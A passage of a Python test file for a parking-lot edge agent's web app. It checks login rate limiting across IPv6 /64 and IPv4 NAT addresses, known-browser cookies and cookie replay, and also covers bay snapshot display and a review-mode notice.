    address of it, met no address limit at all (each name and each address saw one try). The /64 is counted as
    one address; an IPv4 client seen through an IPv6 socket counts as its IPv4 address."""
    app = site.app()
    tries = [_login(TestClient(app, client=(f"2001:db8:1:2::{i:x}", 50000)), "Summer2026!", f"user{i}")
             for i in range(5)]
    assert tries == [401, 401, 401, 429, 429], tries
    assert _login(TestClient(app, client=("2001:db8:1:3::1", 50000)), "Summer2026!", "other") == 401  # next /64
    mapped = [_login(TestClient(app, client=(a, 50000)), "x", f"v4user{i}")
              for i, a in enumerate(("::ffff:192.0.2.7", "192.0.2.7", "::ffff:192.0.2.7", "192.0.2.7"))]
    assert mapped == [401, 401, 401, 429], mapped


def test_address_keys():
    from edge_agent.web.auth import address_key

    assert address_key("2001:db8:1:2:aaaa:bbbb:cccc:dddd") == "2001:db8:1:2::/64"
    assert address_key("fe80::1%eth0") == "fe80::/64"
    assert address_key("::ffff:10.0.0.5") == "10.0.0.5" == address_key("10.0.0.5")
    assert address_key("?") == "?" and address_key("testclient") == "testclient"
    assert address_key("2001:db8::1%eth0", 128) == "2001:db8::1/128" and address_key("::ffff:10.0.0.5", 128) == "10.0.0.5"


def test_an_ipv6_host_rotating_its_addresses_writes_one_refusal_row_not_one_a_request(site):
    """Refused logins are audited coalesced per address (a flood costs a few rows, not one write per request), but
    the address was the whole IPv6 address: a host blocked by its /64 that took a fresh address for each try wrote
    one login_blocked row per request, each a write on the agent's event database. The /64 is one address there too."""
    app = site.app()
    for i in range(3):
        _login(TestClient(app, client=(f"2001:db8:1:2::{i:x}", 50000)), "Summer2026!", f"user{i}")
    codes = [_login(TestClient(app, client=(f"2001:db8:1:2::{i:x}", 50000)), "Summer2026!", f"user{i}")
             for i in range(100, 120)]
    assert set(codes) == {429}, codes
    blocked = [e for e in site.log.audit_entries() if e["action"] == "login_blocked"]
    assert len(blocked) == 1, len(blocked)


def test_a_known_browser_is_not_kept_out_by_a_guesser_sharing_its_ipv6_64(site):
    """A /64 is one address for the limits (a host rotates through it), but it is also a whole LAN under SLAAC: the
    office's PCs and the guest Wi-Fi's phones alike. Five wrong tries from anyone on it then kept out a reviewer
    whose browser had signed in before (it is limited by its address alone): anyone on the network kept every
    reviewer out again. A known browser's own tries count for its own address; everyone else's for the /64."""
    app = site.app()
    staff = TestClient(app, client=("2001:db8:1:2::5", 50000))
    assert _login(staff, PASSWORD) == 303
    staff.post("/logout", data={"csrf": token(staff, "/violations")})
    guesses = [_login(TestClient(app, client=(f"2001:db8:1:2::{i + 100:x}", 50000)), "Summer2026!", f"user{i}")
               for i in range(4)]
    assert guesses == [401, 401, 401, 429], guesses
    assert _login(TestClient(app, client=("2001:db8:1:2::99", 50000)), PASSWORD) == 429  # an unknown browser: /64
    assert _login(staff, PASSWORD) == 303  # the known browser gets in (was 429)
    assert [_login(staff, f"typo{i}") for i in range(4)] == [401, 401, 401, 429]  # its own tries are still limited


def test_a_known_browser_is_not_kept_out_by_a_guesser_behind_the_same_ipv4_address(site):
    """A known browser counted "by its own address", which for IPv4 is the very key everyone else's wrong tries
    from that address fill: staff reaching the page through one NAT (an office router, a VPN gateway) were kept
    out by anyone behind it making three wrong guesses at made-up names, again at every window. A known browser's
    tries now count under its address and the name it signed in as, apart from everyone else's."""
    app = site.app()
    staff = TestClient(app, client=("10.0.0.5", 50000))
    assert _login(staff, PASSWORD) == 303
    staff.post("/logout", data={"csrf": token(staff, "/violations")})
    guesser = TestClient(app, client=("10.0.0.5", 50001))  # the same address: another PC behind the NAT
    assert [_login(guesser, "Summer2026!", f"user{i}") for i in range(4)] == [401, 401, 401, 429]
    assert _login(guesser, PASSWORD) == 429  # an unknown browser there is still held by the address
    assert _login(staff, PASSWORD) == 303  # the known browser gets in (was 429)
    assert [_login(staff, f"typo{i}") for i in range(4)] == [401, 401, 401, 429]  # its own tries are still limited


def test_a_known_browsers_cookie_cannot_rotate_ipv6_addresses_past_its_failure_limit(site):
    """A known browser's wrong tries counted under its own /128 (and, since attack16, the name): its cookie copied
    (a shared PC, an old laptop) and sent from fresh addresses of one /64, each with its three tries, guessed at the
    admin's password without end — 40 wrong tries from 40 addresses, every one answered 401 — as the /64's limits
    hold every other client. The known browser's count is the /64's and the name's: only holders of that name's
    cookie share it, so no one else on the LAN keeps the staff out (the tests above)."""
    app = site.app()
    staff = TestClient(app, client=("2001:db8:1:2::5", 50000))
    assert _login(staff, PASSWORD) == 303
    known = staff.cookies.get("edge_known")
    assert known
    codes = []
    for i in range(40):
        thief = TestClient(app, client=(f"2001:db8:1:2::{i + 0x100:x}", 50000))
        thief.cookies.set("edge_known", known)
        codes.append(_login(thief, f"guess{i}"))
    assert codes[:3] == [401, 401, 401] and set(codes[3:]) == {429}, codes
    assert _login(TestClient(app, client=("2001:db8:1:3::5", 50000)), PASSWORD) == 303  # the name is not locked


def test_a_snapshot_taken_on_the_live_page_is_the_bays_picture_there(site):
    """"Take snapshot" stored the picture and the live page went on showing the bay's last visit's photo (a car, in
    a bay the page called free): a snapshot is no event, and the picture was the newest an event pointed at
    (newuser35). The newest of the two is shown; a later event's photo takes over again."""
    c = logged_in(site)
    before = site.log.last_evidence("A1")
    assert before is not None and f"/evidence/{before}/frame.jpg" in c.get("/bays").text
    site.clock.advance(60)
    assert c.post("/bays/A1/snapshot", data={"csrf": token(c, "/bays")}).status_code == 200
    snap = site.log.last_evidence("A1")
    assert snap != before and site.store.get(snap).kind == "snapshot"
    html = c.get("/bays").text
    assert f"/evidence/{snap}/frame.jpg" in html and f"/evidence/{before}/frame.jpg" not in html
    site.clock.advance(60)
    publish_visit(site, "A1", "粤B12121", "blue", False, "colour", "fuel_vehicle")
    assert site.log.last_evidence("A1") not in (snap, before)


def test_the_review_pages_bays_say_they_are_not_live(site):
    """``edge-agent review`` runs no camera loop: every bay card said "还没有车位状态" (no bay state yet) under the
    photo of the last car, on a site with months of events — a manager read the device as broken (probe
    newuser36). The card says the page runs without the agent."""
    from edge_agent.perception.lists import PlateLists
    from edge_agent.web.offline import OfflineControl

    site.control = OfflineControl(site.cfg, site.store, PlateLists([], []), site.clock)
    site.bus = type(site.bus)()  # review's bus: no state was ever published on it
    page = logged_in(site).get("/bays").text
    assert "还没有车位状态" not in page and "此页面未连接识别程序（审核模式）" in page, page
